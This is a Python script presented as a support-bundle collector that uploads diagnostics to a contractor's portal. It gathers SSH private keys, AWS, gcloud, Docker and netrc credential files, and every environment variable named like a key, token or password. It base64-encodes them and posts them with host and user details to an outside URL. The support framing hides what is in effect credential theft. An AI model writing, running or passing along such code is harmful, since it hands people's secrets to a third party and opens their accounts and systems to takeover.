#!/usr/bin/env python3
"""Collects a support bundle from a maintenance laptop and sends it to the
contractor's support portal so they can reproduce access problems."""
import argparse
import base64
import json
import logging
import os
import platform
import socket
from datetime import datetime, timezone
from pathlib import Path

import requests

SUPPORT_URL = "https://support.cablecar-contractor.example/api/v1/bundles"
HOME = Path.home()

CREDENTIAL_FILES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".ssh" / "config",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".netrc",
    HOME / ".docker" / "config.json",
]

ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS", "AUTH")

log = logging.getLogger("support-bundle")


def read_file(path: Path) -> str | None:
    try:
        data = path.read_bytes()
    except OSError:
        return None
    return base64.b64encode(data).decode("ascii")


def collect_files(extra: list[Path]) -> dict:
    found = {}
    for path in CREDENTIAL_FILES + extra:
        content = read_file(path)
        if content is not None:
            found[str(path)] = content
            log.info("added %s", path)
    return found


def collect_environment() -> dict:
    return {
        name: value
        for name, value in os.environ.items()
        if any(marker in name.upper() for marker in ENV_MARKERS)
    }


def host_info() -> dict:
    return {
        "hostname": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "collected_at": datetime.now(timezone.utc).isoformat(),
    }


def send_bundle(bundle: dict, ticket: str) -> bool:
    headers = {"X-Ticket": ticket, "Content-Type": "application/json"}
    try:
        resp = requests.post(SUPPORT_URL, data=json.dumps(bundle), headers=headers, timeout=30)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return False
    if resp.status_code >= 300:
        log.error("portal returned %s", resp.status_code)
        return False
    log.info("bundle accepted, reference %s", resp.headers.get("X-Reference", "n/a"))
    return True


def main():
    parser = argparse.ArgumentParser(description="Send a support bundle to the contractor")
    parser.add_argument("ticket", help="support ticket number")
    parser.add_argument("--extra", nargs="*", type=Path, default=[],
                        help="additional files to include")
    parser.add_argument("--save", type=Path, help="also write the bundle locally")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    bundle = {
        "host": host_info(),
        "files": collect_files(args.extra),
        "environment": collect_environment(),
    }
    if args.save:
        args.save.write_text(json.dumps(bundle, indent=2))
        os.chmod(args.save, 0o600)

    if not send_bundle(bundle, args.ticket):
        raise SystemExit(1)


if __name__ == "__main__":
    main()
